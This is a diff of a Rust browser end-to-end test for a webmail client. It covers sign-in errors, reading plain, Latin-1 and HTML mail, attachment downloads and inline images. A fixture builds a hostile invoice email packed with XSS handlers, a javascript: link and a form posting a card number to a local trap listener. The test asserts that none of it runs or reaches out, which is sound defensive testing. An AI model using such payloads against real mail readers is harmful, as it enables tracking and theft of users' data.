@@ -1,11 +1,15 @@
 //! The built page (web/pkg from scripts/build-web.sh) in real headless Chromium, served
-//! by the real server, talking through the real tunnel to real Dovecot. This is the test
-//! that catches a broken bundle, which in-browser unit tests cannot.
+//! by the real server, talking through the real tunnel to real Dovecot: signing in,
+//! reading, downloading, and hostile mail. This is the test that catches a broken
+//! bundle, which in-browser unit tests cannot.
 
+use std::io::Read;
+use std::net::TcpListener;
 use std::time::Duration;
 
 use fantoccini::Locator;
 use postern_tests::browser::Browser;
+use postern_tests::corpus::{self, Message};
 use postern_tests::dovecot::Dovecot;
 use postern_tests::repo_root;
 use postern_tests::server::{PosternServer, ServerConfig};
@@ -19,68 +23,303 @@ fn require_bundle() {
     );
 }
 
-async fn status_text(client: fantoccini::Client) -> Option<String> {
-    client
-        .find(Locator::Css("#status"))
+struct Setup {
+    _dovecot: Dovecot,
+    server: PosternServer,
+    browser: Browser,
+    downloads: tempfile::TempDir,
+}
+
+async fn setup(extra: &[Message]) -> Setup {
+    require_bundle();
+    let dovecot = Dovecot::start().unwrap();
+    let mut messages = corpus::standard_mailbox();
+    messages.extend_from_slice(extra);
+    dovecot.seed("alice", "INBOX", &messages).unwrap();
+    let server = PosternServer::start(&ServerConfig::for_dovecot(&dovecot)).unwrap();
+    let downloads = tempfile::tempdir().unwrap();
+    let browser = Browser::start(downloads.path()).await.unwrap();
+    browser.client.goto(&server.http_url("/")).await.unwrap();
+    // The wasm module ran, built the form, and filled it from /api/upstreams.
+    browser
+        .wait_for(Duration::from_secs(20), |c| async move {
+            let options = c.find_all(Locator::Css("#upstream option")).await.ok()?;
+            (options.len() == 6).then_some(())
+        })
         .await
-        .ok()?
-        .text()
+        .unwrap_or_else(|e| panic!("{e}\nserver log:\n{}", server.log()));
+    Setup {
+        _dovecot: dovecot,
+        server,
+        browser,
+        downloads,
+    }
+}
+
+async fn sign_in(browser: &Browser, upstream: &str, protocol: &str, password: &str) {
+    browser.select("#upstream", upstream).await.unwrap();
+    browser.select("#protocol", protocol).await.unwrap();
+    let user = browser.client.find(Locator::Css("#user")).await.unwrap();
+    user.clear().await.unwrap();
+    user.send_keys("alice").await.unwrap();
+    let field = browser
+        .client
+        .find(Locator::Css("#password"))
         .await
-        .ok()
+        .unwrap();
+    field.clear().await.unwrap();
+    field.send_keys(password).await.unwrap();
+    browser.click("#connect").await.unwrap();
+}
+
+fn bytes_to_client(server: &PosternServer) -> u64 {
+    let text = ureq::get(&server.http_url("/metrics"))
+        .call()
+        .unwrap()
+        .into_body()
+        .read_to_string()
+        .unwrap();
+    text.lines()
+        .find(|l| l.starts_with("postern_tunnel_bytes_total{direction=\"to_client\"}"))
+        .and_then(|l| l.split_whitespace().last())
+        .and_then(|n| n.parse().ok())
+        .expect("the byte counter is exported")
 }
 
 #[tokio::test]
-async fn login_page_loads_and_reaches_the_mail_server() {
-    require_bundle();
-    let dovecot = Dovecot::start().unwrap();
-    let server = PosternServer::start(&ServerConfig::for_dovecot(&dovecot)).unwrap();
-    let browser = Browser::start().await.unwrap();
-    let client = browser.client.clone();
+async fn sign_in_read_and_download() {
+    let setup = setup(&[]).await;
+    let browser = &setup.browser;
 
-    client.goto(&server.http_url("/")).await.unwrap();
-    // The wasm module ran, built the form, and filled it from /api/upstreams.
-    let options = browser
-        .wait_for(Duration::from_secs(20), |c| async move {
-            let options = c.find_all(Locator::Css("#upstream option")).await.ok()?;
-            (options.len() >= 6).then_some(options.len())
-        })
-        .await
-        .unwrap_or_else(|e| panic!("{e}\nserver log:\n{}", server.log()));
-    assert_eq!(options, 6);
-
-    browser.select("#upstream", "starttls").await.unwrap();
-    browser.type_into("#user", "alice").await.unwrap();
+    // Each failure says what went wrong, in words.
+    sign_in(browser, "starttls", "imap", "wrong").await;
     browser
-        .type_into("#password", "alice-secret")
+        .wait_text("#status", "Wrong user name or password")
         .await
         .unwrap();
-    browser.click("#connect").await.unwrap();
+    sign_in(browser, "untrusted", "imap", "alice-secret").await;
+    browser.wait_text("#status", "certificate").await.unwrap();
+    sign_in(browser, "down", "imap", "alice-secret").await;
+    browser
+        .wait_text("#status", "cannot connect")
+        .await
+        .unwrap();
+    browser.screenshot("login.png").await.unwrap();
 
-    let status = browser
+    // POP3 signs in too (its mailbox view is still to come).
+    sign_in(browser, "implicit", "pop3", "alice-secret").await;
+    browser
+        .wait_text("#status", "over POP3: 10 messages")
+        .await
+        .unwrap();
+
+    sign_in(browser, "implicit", "imap", "alice-secret").await;
+    let rows = browser
         .wait_for(Duration::from_secs(20), |c| async move {
-            status_text(c)
-                .await
-                .filter(|t| t.contains("The server says"))
+            let rows = c.find_all(Locator::Css("#rows .row")).await.ok()?;
+            (rows.len() == 10).then_some(rows.len())
         })
         .await
-        .unwrap_or_else(|e| panic!("{e}\nserver log:\n{}", server.log()));
-    assert!(status.contains("The server says: * OK"), "{status}");
-    assert!(status.contains("upstream TLS: starttls"), "{status}");
+        .unwrap_or_else(|e| panic!("{e}\n{}", setup.server.log()));
+    assert_eq!(rows, 10);
+    let inbox = browser
+        .wait_text("#folder-list [data-folder=\"INBOX\"]", "8")
+        .await
+        .unwrap();
+    assert!(inbox.contains("Inbox"), "{inbox}");
+    for folder in ["Drafts", "Sent", "Archive", "Junk", "Trash"] {
+        let selector = format!("[data-folder=\"{folder}\"]");
+        assert!(browser.text(&selector).await.is_some(), "{folder} missing");
+    }
+    browser.screenshot("inbox.png").await.unwrap();
 
-    let screenshots = repo_root().join("tests/screenshots");
-    std::fs::create_dir_all(&screenshots).unwrap();
-    let png = client.screenshot().await.unwrap();
-    std::fs::write(screenshots.join("login.png"), png).unwrap();
+    // Plain text, as text.
+    browser.click("[data-uid=\"1\"]").await.unwrap();
+    browser
+        .wait_text("#reader pre.text", "Shall we meet on Thursday")
+        .await
+        .unwrap();
 
-    // A refused tunnel reaches the user as a sentence, not a crash.
-    browser.select("#upstream", "untrusted").await.unwrap();
-    browser.click("#connect").await.unwrap();
-    let status = browser
+    // A Latin-1 message decodes; opening it marks it read (8 unread become 7).
+    browser.click("[data-uid=\"6\"]").await.unwrap();
+    browser
+        .wait_text("#reader pre.text", "¿Nos vemos mañana")
+        .await
+        .unwrap();
+    assert_eq!(browser.text("#reader h2").await.unwrap(), "Reunión mañana");
+    browser
+        .wait_text("#folder-list [data-folder=\"INBOX\"]", "7")
+        .await
+        .unwrap();
+
+    // HTML, in a frame that may run nothing; opening marks the message read.
+    assert!(
+        browser
+            .client
+            .find(Locator::Css("[data-uid=\"8\"]"))
+            .await
+            .is_ok()
+    );
+    browser.click("[data-uid=\"7\"]").await.unwrap();
+    let frame = browser
         .wait_for(Duration::from_secs(20), |c| async move {
-            status_text(c).await.filter(|t| t.contains("TLS"))
+            c.find(Locator::Css("#reader iframe.html")).await.ok()
         })
         .await
         .unwrap();
-    assert!(status.contains("certificate"), "{status}");
-    browser.close().await;
+    let sandbox = frame.attr("sandbox").await.unwrap().unwrap();
+    assert_eq!(sandbox, "allow-popups allow-popups-to-escape-sandbox");
+    browser
+        .wait_text("#reader .blocked", "1 remote image")
+        .await
+        .unwrap();
+    frame.clone().enter_frame().await.unwrap();
+    let body = browser
+        .client
+        .find(Locator::Css("body"))
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(body.contains("Three things we shipped"), "{body}");
+    browser.client.enter_parent_frame().await.unwrap();
+    browser
+        .wait_text("#folder-list [data-folder=\"INBOX\"]", "6")
+        .await
+        .unwrap();
+    let class = browser
+        .client
+        .find(Locator::Css("[data-uid=\"7\"]"))
+        .await
+        .unwrap()
+        .attr("class")
+        .await
+        .unwrap()
+        .unwrap();
+    assert!(!class.contains("unread"), "{class}");
+    browser.screenshot("reader.png").await.unwrap();
+
+    // The 5 MB message opens by moving its text, not its attachment.
+    let before = bytes_to_client(&setup.server);
+    browser.click("[data-uid=\"10\"]").await.unwrap();
+    browser
+        .wait_text("#reader pre.text", "raw survey data")
+        .await
+        .unwrap();
+    browser
+        .wait_text("#reader .attachments", "survey.bin")
+        .await
+        .unwrap();
+    let moved = bytes_to_client(&setup.server) - before;
+    assert!(moved < 100 * 1024, "opening moved {moved} bytes");
+
+    // The attachment downloads intact when clicked.
+    browser.click("#reader .download").await.unwrap();
+    let saved = setup.downloads.path().join("survey.bin");
+    let downloaded = browser
+        .wait_for(Duration::from_secs(30), |_| {
+            let saved = saved.clone();
+            async move {
+                let bytes = std::fs::read(&saved).ok()?;
+                (bytes.len() == 5 * 1024 * 1024).then_some(bytes)
+            }
+        })
+        .await
+        .unwrap();
+    assert!(downloaded == corpus::large_attachment_bytes());
+
+    // Inline images come from the message itself.
+    browser.click("[data-uid=\"9\"]").await.unwrap();
+    browser
+        .wait_text("#reader .attachments", "agenda.pdf")
+        .await
+        .unwrap();
+    let frame = browser
+        .client
+        .find(Locator::Css("#reader iframe.html"))
+        .await
+        .unwrap();
+    let srcdoc = frame.attr("srcdoc").await.unwrap().unwrap();
+    assert!(
+        srcdoc.contains("data:image/png;base64,"),
+        "cid: image not resolved"
+    );
+    assert!(!srcdoc.contains("cid:site-photo"));
+}
+
+/// A message built to attack its reader: none of it may run or reach out.
+fn hostile(trap: u16) -> Message {
+    let trap = format!("http://127.0.0.1:{trap}");
+    Message::new(format!(
+        "From: Mallory <mallory@example.net>\r\nTo: alice@example.org\r\nSubject: Invoice overdue\r\n\
+Message-ID: <hostile@example.net>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
+<html><head><meta http-equiv=\"refresh\" content=\"0;url={trap}/refresh\">\
+<link rel=\"stylesheet\" href=\"{trap}/style.css\"><base href=\"{trap}/\">\
+<style>body {{ background: url({trap}/bg.png) }} p {{ width: expression(alert(1)) }}</style></head>\
+<body onload=\"window.top.pwned = 1\">\
+<script>window.top.pwned = 2; new Image().src = '{trap}/script';</script>\
+<img src=\"{trap}/pixel.gif\" onerror=\"window.top.pwned = 3\">\
+<img src=\"x\" onerror=\"window.top.pwned = 4\">\
+<svg><animate onbegin=\"window.top.pwned = 5\" attributeName=\"x\" dur=\"1s\"/><image href=\"{trap}/svg.png\"/></svg>\
+<a id=\"js\" href=\"javascript:window.top.pwned = 6\">Pay now</a>\
+<form action=\"{trap}/steal\" method=\"post\"><input name=\"card\" value=\"4111\"><button id=\"send\">Send</button></form>\
+<iframe src=\"{trap}/frame\"></iframe><object data=\"{trap}/object\"></object>\
+<div style=\"background: url({trap}/div.png)\">Please pay the attached invoice.</div>\
+</body></html>\r\n"
+    ))
+}
+
+#[tokio::test]
+async fn hostile_mail_runs_nothing_and_reaches_nowhere() {
+    // The "remote host" the message points at: it must never be contacted.
+    let trap = TcpListener::bind("127.0.0.1:0").unwrap();
+    trap.set_nonblocking(true).unwrap();
+    let port = trap.local_addr().unwrap().port();
+    let setup = setup(&[hostile(port)]).await;
+    let browser = &setup.browser;
+
+    sign_in(browser, "plain", "imap", "alice-secret").await;
+    browser.wait_text("#rows", "Invoice overdue").await.unwrap();
+    browser.click("[data-uid=\"11\"]").await.unwrap();
+    let frame = browser
+        .wait_for(Duration::from_secs(20), |c| async move {
+            c.find(Locator::Css("#reader iframe.html")).await.ok()
+        })
+        .await
+        .unwrap();
+    frame.clone().enter_frame().await.unwrap();
+    let body = browser
+        .client
+        .find(Locator::Css("body"))
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(body.contains("Please pay the attached invoice"), "{body}");
+    // Clicking what is left of the link and the form does nothing either.
+    if let Ok(link) = browser.client.find(Locator::Css("a")).await {
+        let _ = link.click().await;
+    }
+    browser.client.enter_parent_frame().await.unwrap();
+    tokio::time::sleep(Duration::from_secs(2)).await;
+
+    let pwned = browser
+        .client
+        .execute("return window.pwned === undefined", vec![])
+        .await
+        .unwrap();
+    assert_eq!(pwned, serde_json::Value::Bool(true), "a script ran");
+    let mut contacted = Vec::new();
+    while let Ok((mut stream, _)) = trap.accept() {
+        let mut request = [0u8; 256];
+        let n = stream.read(&mut request).unwrap_or(0);
+        contacted.push(String::from_utf8_lossy(&request[..n]).into_owned());
+    }
+    assert!(
+        contacted.is_empty(),
+        "the message reached out: {contacted:?}"
+    );
+    browser.screenshot("hostile.png").await.unwrap();
 }
